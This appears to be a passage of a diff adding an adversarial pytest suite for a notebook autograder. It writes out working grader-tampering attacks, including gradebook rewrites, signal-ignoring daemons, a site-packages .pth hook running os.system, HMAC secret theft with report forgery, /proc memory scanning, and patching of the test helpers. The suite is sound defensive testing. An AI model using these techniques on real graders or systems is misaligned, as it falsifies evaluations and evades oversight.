@@ -1,0 +1,1241 @@
+"""Adversarial tests of `python -m autograder grade`: one batch of hostile submissions.
+
+A temporary course holds only the dummy lab of tests/test_pipeline.py (`99_dummy`: write
+`scale(logits, t)`; 99_scale_test, 2 points, has a visible part and a hidden part that runs with
+`minillm.sampling.apply_temperature` disabled; 99_asset_test, 1 point). One batch, graded with
+`grade_submissions(..., workers=2)`, holds an honest submission and one submission per attack
+(the attack's code is the solution cell's body and/or extra cells after it). The honest
+submission is also graded alone, in a course of its own.
+
+For every attack:
+
+* the attacker earns no point it did not earn: `EARNED` is what the submission's own `scale`
+  deserves (a `scale` that multiplies by t is wrong: 0 on 99_scale_test; one that is right on
+  1-D input only fails the hidden part: 0 on 99_scale_test; both still pass 99_asset_test,
+  which calls scale(ones, 1.0)), and no cell scores more;
+* nobody else's grade or feedback changes: the honest submission graded in the same batch as
+  every attack gets exactly the score (and the feedback) it gets alone, and the gradebook still
+  holds, after the batch, what was recorded;
+* no hidden test text (a hidden line, `BEGIN HIDDEN TESTS`, a name only the hidden part uses)
+  appears in any feedback HTML or in grades.csv, and an environment variable set in the
+  grader (`GRADER_SECRET`) appears in no output;
+* no process survives the batch (nothing with the run's marker in its command line, nothing
+  whose working directory is in the courses or in the jobs' temporary directory), nothing is
+  written outside the sandbox, the test's TCP / unix servers get no connection;
+* the batch finishes with one record per submission; a tampering attack ends `tampered: ...`
+  or with 0 on the test cell and a reason.
+
+Attacks marked `documented` are limits autograder/sealed.py or checks.py names as not stopped
+(racing the checks, copying the reference's code); they are expected to fail (xfail).
+
+Wall time: ~5-6 minutes on 2 loaded cores. `TAMPER_ONLY=name,name` grades only those attacks
+(plus the honest submission), for working on one attack.
+"""
+from __future__ import annotations
+
+import csv
+import html
+import json
+import os
+import re
+import secrets
+import shutil
+import socket
+import sys
+import tempfile
+import textwrap
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+import psutil
+import pytest
+from nbformat.v4 import new_code_cell
+
+from autograder.course import Course
+from autograder.grade import grade_submissions
+from autograder.sandbox import sandbox_unavailable_reason
+from test_pipeline import DUMMY, write_dummy_lab
+
+REPO = Path(__file__).resolve().parent.parent
+pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("tamper")]
+
+HONEST = "honest"
+SCALE_TEST, ASSET_TEST = "99_scale_test", "99_asset_test"
+# Text only the hidden part of 99_scale_test holds (tests/test_pipeline.py): none of it may be
+# shown to a student. Feedback is compared as text (tags stripped, entities decoded).
+HIDDEN_TOKENS = ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "manual_seed", "apply_temperature(y",
+                 "torch.randn(3, 7", "Generator()")
+
+# --- solution bodies -----------------------------------------------------------------------
+GOOD = "def scale(logits, t):\n    return logits / t\n"
+WRONG = "def scale(logits, t):\n    return logits * t          # wrong: multiplies\n"
+HALF = ("def scale(logits, t):\n    # right on 1-D input (the visible test), wrong on 2-D (the hidden one)\n"
+        "    return logits / t if logits.dim() < 2 else logits * t\n")
+# what each kind of `scale` earns honestly (the most each test cell may score)
+E_WRONG = {SCALE_TEST: 0, ASSET_TEST: 1}
+E_GOOD = {SCALE_TEST: 2, ASSET_TEST: 1}
+E_NONE = {SCALE_TEST: 0, ASSET_TEST: 0}
+
+
+def src(text: str) -> str:
+    return textwrap.dedent(text).strip("\n") + "\n"
+
+
+# Shared by the attacks that try to steal the HMAC secret and forge the signed report: the
+# executor asks for `__import__('autograder.sealed').sealed.report()` after each locked cell,
+# so once the secret is known, a post_run_cell callback swaps in a report signed with it that
+# says every locked cell passed.
+STEAL = src(r'''
+    import sys, hmac, hashlib, re, types
+    import autograder.sealed as _sealed
+    LOOT = {"candidates": [], "secret": None, "sources": [], "codes": [], "notes": []}
+    _REAL_REPORT = _sealed.report
+    _SIGNED = _REAL_REPORT()                 # a genuine signed report: recognises the secret
+
+    def _is_secret(c):
+        body, _, mac = _SIGNED.rpartition("\n")
+        return hmac.new(c, body.encode(), hashlib.sha256).hexdigest() == mac.strip()
+
+    def _loot_value(v, depth=0):
+        if type(v) is bytes and len(v) == 32:
+            LOOT["candidates"].append(v)
+        elif type(v) is dict and depth < 2:
+            for w in list(v.values()):
+                if type(w) is dict and type(w.get("source")) is str:
+                    LOOT["sources"].append(w["source"])
+                elif type(w) is tuple:
+                    LOOT["codes"].extend(x for x in w if type(x) is types.CodeType)
+        elif type(v) is types.FunctionType and depth < 2:
+            for c in v.__closure__ or ():
+                try:
+                    _loot_value(c.cell_contents, depth + 1)
+                except ValueError:
+                    pass
+
+    def _loot_frames(f):
+        """Everything reachable from the locals (and closures) of autograder.sealed's frames."""
+        while f is not None:
+            if f.f_globals.get("__name__") == "autograder.sealed":
+                for v in list(f.f_locals.values()):
+                    _loot_value(v)
+            f = f.f_back
+
+    def _find_secret():
+        if LOOT["secret"] is None:
+            for c in LOOT["candidates"]:
+                if _is_secret(c):
+                    LOOT["secret"] = c
+                    break
+        return LOOT["secret"]
+
+    def _forged_report():
+        key = _find_secret()
+        if key is None:
+            return _REAL_REPORT()
+        keys = []
+        for cell in get_ipython().user_ns.get("_ih", []):
+            keys += re.findall(r"sealed\.run\('([0-9a-f]+)'\)", cell)
+        recs = {k: {"grade_id": "?", "kind": "test", "ok": True, "message": "",
+                    "tampered": False} for k in keys}
+        body = repr(recs)
+        return body + "\n" + hmac.new(key, body.encode(), hashlib.sha256).hexdigest()
+
+    def _serve_forgery(*args, **kwargs):
+        if _find_secret() is not None and _sealed.report is not _forged_report:
+            _sealed.report = _forged_report
+    get_ipython().events.register("post_run_cell", _serve_forgery)
+''')
+
+# Printed by a cell after the tests: what an attack stole. Spaces are doubled so that the
+# feedback's redaction of exact hidden lines does not hide what leaked.
+SHOW_LOOT = src(r'''
+    import dis
+    def _show(text):
+        return "  ".join(str(text).split(" "))
+    print("secret found:", LOOT.get("secret") is not None, "candidates:", len(LOOT.get("candidates", [])))
+    print("notes:", LOOT.get("notes"))
+    for _s in dict.fromkeys(LOOT.get("sources", [])):
+        print("LEAKED SOURCE:\n" + _show(_s))
+    for _c in LOOT.get("codes", [])[:4]:
+        print("LEAKED CODE:", _show(_c.co_names), _show([x for x in _c.co_consts if type(x) is not types.CodeType]))
+''')
+
+MEMSCAN = src(r'''
+    import struct
+    def memscan(pid, bytes_type_address, mem_path=None, limit=200000):
+        """32-byte bytes objects (secret candidates) and text around the hidden-test marker in
+        process `pid`'s writable memory."""
+        pattern = struct.pack("<Qq", bytes_type_address, 32)   # ob_type, ob_size of bytes[32]
+        cands, snippets = set(), []
+        maps = open("/proc/%d/maps" % pid).read().splitlines()
+        mem = open(mem_path or "/proc/%d/mem" % pid, "rb", buffering=0)
+        for line in maps:
+            parts = line.split()
+            if len(parts) < 2 or not parts[1].startswith("rw"):
+                continue
+            lo, hi = (int(x, 16) for x in parts[0].split("-"))
+            if hi - lo > (1 << 30):
+                continue
+            off = lo
+            while off < hi:
+                n = min(4 << 20, hi - off)
+                try:
+                    mem.seek(off)
+                    chunk = mem.read(n)
+                except (OSError, OverflowError, ValueError):
+                    break
+                i = chunk.find(pattern)
+                while i >= 0 and len(cands) < limit:
+                    data = chunk[i + 24:i + 56]     # after ob_shash
+                    if len(data) == 32:
+                        cands.add(data)
+                    i = chunk.find(pattern, i + 1)
+                j = chunk.find(b"HIDDEN" + b" TESTS")
+                while j >= 0 and len(snippets) < 40:
+                    text = chunk[max(0, j - 400):j + 700].decode("utf-8", "replace")
+                    if "assert_close" in text:
+                        snippets.append(text)
+                    j = chunk.find(b"HIDDEN" + b" TESTS", j + 1)
+                off += n
+        return cands, snippets
+''')
+
+
+@dataclass
+class Attack:
+    name: str                          # the student id
+    what: str                          # one line for the report
+    solution: str | None = None        # body of the solution cell (None: the released stub)
+    after: list[str] = field(default_factory=list)     # code cells right after the solution
+    at_end: list[str] = field(default_factory=list)    # code cells after the tests
+    earned: dict = field(default_factory=lambda: dict(E_WRONG))
+    tamper: bool = True                # must end `tampered` or 0 with a reason on 99_scale_test
+    forbid: tuple = ()                 # strings that must not be in the attack's own outputs
+    require: tuple = ()                # strings that must be (the attack really ran)
+    raw: str | None = None             # a notebook file that is not a notebook
+    build: object = None               # fn(released notebook) -> notebook text (special files)
+    documented: str | None = None      # a limit the grader documents: xfail with this reason
+
+
+def _notebook_with_fake_cells(nb):
+    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
+    meta = lambda gid, points: {"nbgrader": {"schema_version": 3, "grade": True,     # noqa: E731
+                                             "solution": False, "locked": False,
+                                             "grade_id": gid, "points": points}}
+    nb.cells[2].source = WRONG
+    nb.cells[2].metadata["nbgrader"].update(grade=True, points=50)     # a graded solution cell
+    nb.cells.insert(2, new_code_cell("pass", metadata=meta(SCALE_TEST, 2)))   # a duplicate id
+    nb.cells.insert(3, new_code_cell("pass", metadata=meta("99_bonus", 100)))  # an unknown id
+    nb.cells.append(new_code_cell("pass", metadata=meta(ASSET_TEST, 1)))
+    return nbformat.writes(nb)
+
+
+def _notebook_without_tests(nb):
+    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
+    nb.cells[2].source = WRONG
+    nb.cells = nb.cells[:3]
+    return nbformat.writes(nb)
+
+
+def _million_cells(nb):
+    """1,000,000 empty markdown cells after the lab's own cells, written as text directly."""
+    base = json.loads(nbformat.writes(nb))
+    base["cells"][2]["source"] = GOOD
+    head = json.dumps(base)
+    cut = head.index('"cells": [') + len('"cells": [')
+    empty = '{"cell_type": "markdown", "metadata": {}, "source": ""}'
+    return head[:cut] + ", ".join([empty] * 1_000_000) + ", " + head[cut:]
+
+
+ATTACKS = [
+    # 1. the gradebook ---------------------------------------------------------------------------
+    Attack("gb_rewrite", "look for gradebook.db (up from cwd, /work, /tmp, /root, home), rewrite "
+           "it; write files outside the sandbox (repo, package dirs, site-packages .pth, /tmp)",
+           WRONG + src(r'''
+        import os, sqlite3, site
+        ROOTS = @ROOTS@
+        found = []
+        d = os.getcwd()
+        while True:
+            for p in (os.path.join(d, "build", "gradebook.db"), os.path.join(d, "gradebook.db")):
+                if os.path.exists(p):
+                    found.append(p)
+            if d == "/":
+                break
+            d = os.path.dirname(d)
+        for top in ["/work", "/tmp", "/root", "/home", os.path.expanduser("~")] + ROOTS:
+            depth0 = top.rstrip("/").count("/")
+            for dirpath, dirnames, filenames in os.walk(top):
+                if dirpath.count("/") - depth0 >= 5:
+                    dirnames[:] = []
+                dirnames[:] = [x for x in dirnames if x not in (".venv", "site-packages", ".git")]
+                found += [os.path.join(dirpath, f) for f in filenames
+                          if f == "gradebook.db" or f.endswith(".ipynb") or f == "job.json"]
+        print("FOUND", sorted(set(found)))
+        for p in sorted(set(found)):
+            if not p.endswith("gradebook.db") or not p.startswith(tuple(ROOTS)):
+                continue                  # never touch a gradebook outside this test's courses
+            try:
+                con = sqlite3.connect(p, timeout=2)
+                con.execute("update grade set manual_score = 0")
+                con.execute("update grade set manual_score = 1000 where notebook_id in (select n.id "
+                            "from submitted_notebook n join submitted_assignment a on "
+                            "n.assignment_id = a.id where a.student_id = 'gb_rewrite')")
+                con.commit()
+                con.close()
+                print("GRADEBOOK " + "REWRITTEN", p)
+            except Exception as e:
+                print("could not rewrite", p, type(e).__name__, e)
+        targets = ["/work/main/tamper_@MARKER@", "/work/main/autograder/tamper_@MARKER@.py",
+                   "/work/main/minillm/tamper_@MARKER@.py", "/tmp/tamper_@MARKER@",
+                   os.path.expanduser("~/tamper_@MARKER@")]
+        targets += [os.path.join(p, "tamper_@MARKER@.pth") for p in site.getsitepackages()]
+        targets += [os.path.join(r, "tamper_@MARKER@") for r in ROOTS]
+        for t in targets:
+            try:
+                with open(t, "w") as f:
+                    f.write("import os; os.system('touch /tmp/tamper_pth_@MARKER@')\n")
+                print("wrote", t)
+            except Exception as e:
+                print("cannot write", t, type(e).__name__)
+    '''), forbid=("GRADEBOOK REWRITTEN",), require=("FOUND", "cannot write")),
+
+    Attack("gb_daemon", "daemons that outlive the kernel (Popen new session, double fork + exec, "
+           "plain forks; SIGTERM/SIGHUP ignored) looping 30 s on every gradebook.db",
+           WRONG + src(r'''
+        import os, sys, signal, subprocess
+        CODE = r"""
+        import os, sys, time, signal, sqlite3
+        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+            signal.signal(s, signal.SIG_IGN)
+        ROOTS = @ROOTS@
+        end = time.time() + 30
+        while time.time() < end:
+            for r in ROOTS:
+                p = os.path.join(r, "build", "gradebook.db")
+                if os.path.exists(p):
+                    try:
+                        open(os.path.join(r, "tamper_daemon_@MARKER@"), "w").write(sys.argv[1])
+                        con = sqlite3.connect(p, timeout=1)
+                        con.execute("update grade set auto_score = 0")
+                        con.commit()
+                        con.close()
+                    except Exception:
+                        pass
+            try:
+                open("/tmp/tamper_daemon_@MARKER@", "w").write(sys.argv[1])
+            except Exception:
+                pass
+            time.sleep(0.5)
+        """.replace("\n        ", "\n")
+        subprocess.Popen([sys.executable, "-c", CODE, "tamperd_popen_@MARKER@"],
+                         start_new_session=True, stdin=subprocess.DEVNULL,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        pid = os.fork()
+        if pid == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    os.execv(sys.executable, [sys.executable, "-c", CODE, "tamperd_double_@MARKER@"])
+            finally:
+                os._exit(0)
+        os.waitpid(pid, 0)
+        for i in range(2):                 # plain forks: they look like the kernel
+            if os.fork() == 0:
+                try:
+                    os.setsid()
+                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
+                    import time
+                    end = time.time() + 30
+                    while time.time() < end:
+                        for p in ["/tmp/tamper_fork_@MARKER@"] + [r + "/tamper_fork_@MARKER@" for r in @ROOTS@]:
+                            try:
+                                open(p, "w").write("fork")
+                            except Exception:
+                                pass
+                        time.sleep(0.5)
+                finally:
+                    os._exit(0)
+        print("daemons started")
+    '''), require=("daemons started",)),
+
+    # 2. the hidden tests -----------------------------------------------------------------------
+    Attack("hidden_history", "print In/_ih/history db, search the file system for notebooks and "
+           "gradebooks with HIDDEN; inside scale: sys._getframe / inspect.stack / tb_frame.f_back "
+           "on the caller, raise an exception carrying what was found",
+           src(r'''
+        import sys, inspect
+        def scale(logits, t):
+            found = []
+            for how in ("sys._getframe", "inspect.stack", "inspect.currentframe", "tb_frame"):
+                try:
+                    if how == "sys._getframe":
+                        f = sys._getframe(1)
+                    elif how == "inspect.stack":
+                        f = inspect.stack()[1].frame
+                    elif how == "inspect.currentframe":
+                        f = inspect.currentframe().f_back
+                    else:
+                        try:
+                            raise RuntimeError("probe")
+                        except RuntimeError as e:
+                            f = e.__traceback__.tb_frame.f_back
+                    found.append((how, "GOT FRAME", f.f_code.co_consts, sorted(f.f_globals)[:40],
+                                  {k: repr(v)[:80] for k, v in f.f_locals.items()}))
+                except BaseException as e:
+                    found.append((how, "refused", repr(e)[:150]))
+            print("FRAMES", found)
+            raise RuntimeError("FOUND " + repr(found)[:4000])
+    '''), after=[src(r'''
+        import os
+        def hunt():
+            print("IN", In)
+            print("IH", _ih)
+            hm = get_ipython().history_manager
+            try:
+                print("HISTORY DB", hm.db.execute("select source_raw from history").fetchall())
+            except Exception as e:
+                print("history db:", e)
+            hits = []
+            for top in ("/", os.getcwd()):
+                for dirpath, dirnames, filenames in os.walk(top):
+                    if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", "/lib", "/etc", "/bin")):
+                        dirnames[:] = []
+                        continue
+                    dirnames[:] = [x for x in dirnames if x not in ("site-packages", ".git")]
+                    for f in filenames:
+                        if f.endswith((".ipynb", ".json", ".db", ".sqlite")):
+                            p = os.path.join(dirpath, f)
+                            try:
+                                data = open(p, "rb").read(5_000_000)
+                            except Exception:
+                                continue
+                            if b"HIDDEN" in data or b"hidden" in data:
+                                hits.append(p)
+                                print("HIT", p, data[:20000])
+            print("HITS", hits)
+        hunt()
+    ''')], at_end=["hunt()"], earned=E_WRONG,
+           forbid=("GOT FRAME",), require=("FRAMES", "HITS")),
+
+    Attack("hidden_genframe", "a generator's frame, read outside a locked cell, is resumed by "
+           "scale during the test: its f_back chain (f_back is not audited) reaches the test's "
+           "frame (steal `ref`) and autograder.sealed.run's locals (the test's code object)",
+           src(r'''
+        import torch, types
+        def _spy():
+            while True:
+                chain, f = [], _SPY_FRAME.f_back      # f_back of a running generator: its caller
+                while f is not None:
+                    chain.append(f)
+                    f = f.f_back
+                yield chain
+        _SPY = _spy()
+        _SPY_FRAME = _SPY.gi_frame                   # no locked cell runs now: allowed
+        LOOT = {"codes": [], "sources": [], "notes": []}
+        def scale(logits, t):
+            try:
+                chain = next(_SPY)
+            except Exception as e:
+                LOOT["notes"].append(repr(e)[:200])
+                chain = []
+            for f in chain[1:]:
+                loc = f.f_locals
+                code = loc.get("code")
+                if isinstance(code, types.CodeType) and code not in LOOT["codes"]:
+                    LOOT["codes"].append(code)
+                ref = loc.get("ref")
+                if isinstance(ref, torch.Tensor) and ref.shape == logits.shape:
+                    LOOT["notes"].append("STOLE " + "REF")
+                    return ref.clone()
+            return logits / t if logits.dim() < 2 else logits * t    # right on 1-D only
+    '''), at_end=[SHOW_LOOT], earned=E_WRONG, tamper=False,
+           forbid=("STOLE REF", "LEAKED CODE")),
+
+    # 3. delegating to the reference -------------------------------------------------------------
+    Attack("deleg_all", "scale delegates to minillm.sampling.apply_temperature through a default "
+           "argument, a closure, a list, a dict, functools.partial, an import alias, a class "
+           "attribute, the module attribute: each must be refused in the hidden test",
+           src(r'''
+        import functools
+        import minillm.sampling
+        from minillm.sampling import apply_temperature as _alias
+        _REF = minillm.sampling.apply_temperature
+        _LIST, _DICT = [_REF], {"f": _REF}
+        def _closure(f):
+            def g(x, t):
+                return f(x, t)
+            return g
+        class _Holder:
+            f = staticmethod(_REF)
+        def _default(x, t, _f=_REF):
+            return _f(x, t)
+        VARIANTS = [("default-argument", _default), ("closure", _closure(_REF)),
+                    ("list", lambda x, t: _LIST[0](x, t)), ("dict", lambda x, t: _DICT["f"](x, t)),
+                    ("functools.partial", functools.partial(_REF)), ("import-alias", _alias),
+                    ("class-attribute", _Holder.f),
+                    ("module-attribute", lambda x, t: minillm.sampling.apply_temperature(x, t))]
+        def scale(logits, t):
+            refused = []
+            for name, f in VARIANTS:
+                try:
+                    out = f(logits, t)
+                except AssertionError:
+                    refused.append(name)
+                    continue
+                if logits.dim() == 2:
+                    print("DELEGATED via", name)
+                return out
+            raise AssertionError("refused: " + " ".join(refused))
+    '''), earned=E_WRONG, tamper=False, forbid=("DELEGATED via",),
+           require=("refused: default-argument closure list dict functools.partial import-alias "
+                    "class-attribute module-attribute",)),
+
+    Attack("deleg_registry", "scale delegates to the reference after adding it to "
+           "autograder.checks._disabled (a plain dict, not snapshotted): reference_disabled then "
+           "believes an outer block has disabled it and leaves it working",
+           src(r'''
+        import autograder.checks, minillm.sampling
+        _f = minillm.sampling.apply_temperature
+        autograder.checks._disabled[id(_f)] = (_f, _f.__code__)
+        def scale(logits, t):
+            return minillm.sampling.apply_temperature(logits, t)
+    '''), earned=E_WRONG),
+
+    Attack("deleg_copies", "scale runs a copy of the reference: a new function on its __code__, "
+           "or the module file loaded afresh",
+           src(r'''
+        import types, importlib.util, minillm.sampling
+        _ref = minillm.sampling.apply_temperature
+        _copy = types.FunctionType(_ref.__code__, _ref.__globals__, "copy", _ref.__defaults__)
+        _spec = importlib.util.spec_from_file_location("_sampling_copy", minillm.sampling.__file__)
+        _mod = importlib.util.module_from_spec(_spec)
+        _spec.loader.exec_module(_mod)
+        def scale(logits, t):
+            try:
+                return _copy(logits, t)
+            except AssertionError:
+                return _mod.apply_temperature(logits, t)
+    '''), earned=E_WRONG, tamper=False,
+           documented="reference_disabled's docstring: a copy of the reference's code object or "
+                      "source text keeps working"),
+
+    # 4. the helpers the tests call ----------------------------------------------------------------
+    Attack("helper_module_patch", "autograder.assert_close / reference_disabled replaced by no-ops",
+           WRONG + src('''
+        import autograder, contextlib
+        autograder.assert_close = lambda *a, **k: None
+        autograder.reference_disabled = lambda *a, **k: contextlib.nullcontext()
+    ''')),
+    Attack("helper_rebind_name", "the names assert_close, reference_disabled, minillm rebound in "
+           "the notebook's namespace",
+           WRONG + src('''
+        import contextlib, types
+        assert_close = lambda *a, **k: None
+        reference_disabled = lambda *a, **k: contextlib.nullcontext()
+        minillm = types.SimpleNamespace(sampling=types.SimpleNamespace(apply_temperature=lambda y, t: y * t))
+    ''')),
+    Attack("helper_sys_modules", "sys.modules['autograder'] (and .checks) replaced by a fake module",
+           WRONG + src('''
+        import sys, types, contextlib
+        fake = types.ModuleType("autograder")
+        fake.assert_close = lambda *a, **k: None
+        fake.reference_disabled = lambda *a, **k: contextlib.nullcontext()
+        sys.modules["autograder"] = fake
+        sys.modules["autograder.checks"] = fake
+    ''')),
+    Attack("helper_torch_builtins", "torch.allclose / torch.isclose / torch.testing.assert_close "
+           "and builtins.len replaced",
+           WRONG + src('''
+        import torch, builtins
+        torch.allclose = lambda *a, **k: True
+        torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
+        torch.testing.assert_close = lambda *a, **k: None
+        _len = len
+        builtins.len = lambda x: _len(x)
+    ''')),
+    Attack("helper_checks_dict", "autograder.checks.__dict__: assert_close and the captured "
+           "_isclose / _eq replaced",
+           WRONG + src('''
+        import autograder.checks, torch
+        _d = autograder.checks.__dict__
+        _d["assert_close"] = lambda *a, **k: None
+        _d["_isclose"] = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
+        _d["_eq"] = lambda a, b: torch.ones_like(a, dtype=torch.bool)
+    ''')),
+    Attack("helper_code_swap", "__code__ of autograder.checks.assert_close and of the reference "
+           "swapped (the reference made to multiply, like the wrong scale)",
+           WRONG + src('''
+        import autograder.checks, minillm.sampling
+        def _noop(actual, expected, *, atol=1e-5, rtol=1e-5, name="value"):
+            return None
+        def _times(logits, temperature):
+            return logits * temperature
+        autograder.checks.assert_close.__code__ = _noop.__code__
+        minillm.sampling.apply_temperature.__code__ = _times.__code__
+    ''')),
+    Attack("helper_kwdefaults", "assert_close.__kwdefaults__ mutated in place (atol=rtol=1e9): "
+           "the dict object stays the same",
+           WRONG + src('''
+        import autograder.checks
+        autograder.checks.assert_close.__kwdefaults__.update(atol=1e9, rtol=1e9)
+    ''')),
+    Attack("helper_contextlib", "contextlib._GeneratorContextManager.__exit__ (not a watched "
+           "module) made to swallow AssertionError: the hidden check inside "
+           "`with reference_disabled(...)` cannot fail",
+           HALF + src('''
+        import contextlib
+        _orig_exit = contextlib._GeneratorContextManager.__exit__
+        def _swallow(self, typ, value, tb):
+            result = _orig_exit(self, typ, value, tb)      # still restores the reference
+            return True if typ is not None and issubclass(typ, AssertionError) else result
+        contextlib._GeneratorContextManager.__exit__ = _swallow
+    ''')),
+    Attack("helper_torch_mode", "a global torch TorchFunctionMode (C-level state, no module "
+           "changes) makes torch.isclose / torch.eq say 'equal'",
+           WRONG + src('''
+        import torch
+        from torch.overrides import TorchFunctionMode
+        class _Agree(TorchFunctionMode):
+            def __torch_function__(self, func, types, args=(), kwargs=None):
+                kwargs = kwargs or {}
+                if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__,
+                            torch.Tensor.isclose):
+                    a, b = torch.as_tensor(args[0]), torch.as_tensor(args[1])
+                    return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
+                return func(*args, **kwargs)
+        _AGREE = _Agree()
+        _AGREE.__enter__()                  # stays on the mode stack for every later cell
+    ''')),
+    Attack("helper_tensor_subclass", "scale returns a torch.Tensor subclass whose "
+           "__torch_function__ makes torch.isclose / torch.eq say 'equal'",
+           src('''
+        import torch
+        class _Agreeable(torch.Tensor):
+            @classmethod
+            def __torch_function__(cls, func, types, args=(), kwargs=None):
+                kwargs = kwargs or {}
+                if func in (torch.isclose, torch.eq, torch.Tensor.eq, torch.Tensor.__eq__):
+                    a, b = args[0], args[1]
+                    return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
+                return super().__torch_function__(func, types, args, kwargs)
+        def scale(logits, t):
+            return (logits * t).as_subclass(_Agreeable)      # wrong values
+    ''')),
+    Attack("nbgrader_partial_credit", "scale emits an execute_result (get_ipython().displayhook) "
+           "in the test cell: nbgrader reads the first execute_result of a test cell as its grade "
+           "(non-numeric = full marks) before it looks at the error output after it",
+           src('''
+        def scale(logits, t):
+            get_ipython().displayhook("full marks")
+            return logits * t                   # wrong
+    ''')),
+    Attack("race_patch_restore", "scale patches autograder.checks._isclose; the fake restores "
+           "the original the first time it is called, before the test ends",
+           src('''
+        import autograder.checks as _ck, torch
+        def scale(logits, t):
+            orig = _ck._isclose
+            def fake(a, b, **kw):
+                _ck._isclose = orig
+                return torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
+            _ck._isclose = fake
+            return logits * t                   # wrong
+    '''), documented="autograder/sealed.py: code that patches a module attribute during a test "
+                     "and restores it before the test ends is not stopped"),
+
+    # 5. IPython's machinery ---------------------------------------------------------------------
+    Attack("ipy_swallow", "set_custom_exc swallowing every exception, sys.excepthook and "
+           "showtraceback replaced",
+           WRONG + src('''
+        import sys
+        _ip = get_ipython()
+        _ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
+        sys.excepthook = lambda *a: None
+        _ip.showtraceback = lambda *a, **k: None
+    ''')),
+    Attack("ipy_rewrite_cells", "an input transformer and an AST transformer that turn every "
+           "later cell into `pass`",
+           WRONG + src('''
+        import ast
+        _ip = get_ipython()
+        _ip.input_transformers_post.append(lambda lines: ["pass\\n"])
+        class _Empty(ast.NodeTransformer):
+            def visit_Module(self, node):
+                node.body = [ast.Pass()]
+                return ast.fix_missing_locations(node)
+        _ip.ast_transformers.append(_Empty())
+    ''')),
+    Attack("ipy_run_cell", "get_ipython().run_cell / run_cell_async replaced by functions that "
+           "report success without running anything",
+           WRONG + src('''
+        from IPython.core.interactiveshell import ExecutionResult
+        _ip = get_ipython()
+        def _fake(*a, **k):
+            return ExecutionResult(None)
+        async def _fake_async(*a, **k):
+            return ExecutionResult(None)
+        _ip.run_cell = _fake
+        _ip.run_cell_async = _fake_async
+    ''')),
+    Attack("ipy_do_execute", "get_ipython().kernel.do_execute replaced: every later request "
+           "answers ok without running",
+           WRONG + src('''
+        _ip = get_ipython()
+        async def _fake_do_execute(code, silent, store_history=True, user_expressions=None,
+                                   allow_stdin=False, **kw):
+            return {"status": "ok", "execution_count": _ip.execution_count,
+                    "user_expressions": {}, "payload": []}
+        _ip.kernel.do_execute = _fake_do_execute
+    ''')),
+
+    # 6. the sealed cells' hook -----------------------------------------------------------------
+    Attack("seal_probes", "refused primitives: run.__code__, gc walks, _current_frames, "
+           "settrace/setprofile, ctypes, cffi, _testcapi, /proc/self/mem, /proc/1/environ, "
+           "symlink to /proc, sys.audit('autograder.*') with the real next key, an unknown key",
+           WRONG + src(r'''
+        import sys, os, gc, re, autograder, autograder.sealed
+        RESULTS = []
+        def probe(name, fn):
+            try:
+                fn()
+                RESULTS.append("PROBE %s: ALLOWED" % name)
+            except BaseException as e:
+                RESULTS.append("PROBE %s: refused (%s)" % (name, type(e).__name__))
+        probe("run.__code__", lambda: autograder.sealed.run.__code__)
+        probe("_make_hook.__code__", lambda: autograder.sealed._make_hook.__code__)
+        probe("set run.__code__", lambda: setattr(autograder.sealed.run, "__code__", (lambda key: None).__code__))
+        probe("gc.get_objects", gc.get_objects)
+        probe("gc.get_referrers", lambda: gc.get_referrers(autograder.sealed.run))
+        probe("gc.get_referents", lambda: gc.get_referents(autograder.sealed.run))
+        probe("sys._current_frames", sys._current_frames)
+        probe("sys.settrace", lambda: sys.settrace(lambda *a: None))
+        probe("sys.setprofile", lambda: sys.setprofile(lambda *a: None))
+        probe("import ctypes", lambda: __import__("ctypes"))
+        probe("_ctypes.PyObj_FromPtr", lambda: __import__("_ctypes").PyObj_FromPtr(id(autograder)))
+        probe("import cffi", lambda: __import__("cffi"))
+        probe("import _testcapi", lambda: __import__("_testcapi"))
+        probe("open /proc/self/mem", lambda: open("/proc/self/mem", "rb").close())
+        probe("os.open /proc/self/mem", lambda: os.close(os.open("/proc/self/mem", os.O_RDONLY)))
+        probe("open /proc/1/environ", lambda: open("/proc/1/environ", "rb").read())
+        probe("symlink /proc/self/mem", lambda: os.symlink("/proc/self/mem", "m"))
+        probe("audit record", lambda: sys.audit("autograder.record", "0" * 32, True, "", 0))
+        probe("audit fetch", lambda: sys.audit("autograder.fetch", "0" * 32, []))
+        probe("run unknown key", lambda: autograder.sealed.run("0" * 32))
+        def _before(info):
+            for key in re.findall(r"sealed\.run\('([0-9a-f]+)'\)", info.raw_cell or ""):
+                probe("audit record, real key", lambda: sys.audit("autograder.record", key, True, "", 0))
+                probe("audit fetch, real key", lambda: sys.audit("autograder.fetch", key, []))
+        get_ipython().events.register("pre_run_cell", _before)
+        print("\n".join(RESULTS))
+    '''), at_end=['print("\\n".join(RESULTS))'],
+           forbid=(": ALLOWED",), require=("PROBE run.__code__: refused",
+                                            "PROBE audit fetch, real key: refused")),
+    Attack("seal_thread_flip", "a background thread flips autograder.assert_close and "
+           "autograder.checks._isclose to fakes and back in a loop",
+           WRONG + src('''
+        import threading, time, torch, autograder, autograder.checks
+        _orig = (autograder.assert_close, autograder.checks._isclose)
+        _fakes = (lambda *a, **k: None, lambda a, b, **k: torch.ones_like(a, dtype=torch.bool))
+        def _flip():
+            end = time.time() + 60
+            while time.time() < end:
+                autograder.assert_close, autograder.checks._isclose = _fakes
+                time.sleep(0.0005)
+                autograder.assert_close, autograder.checks._isclose = _orig
+                time.sleep(0.0005)
+        threading.Thread(target=_flip, daemon=True).start()
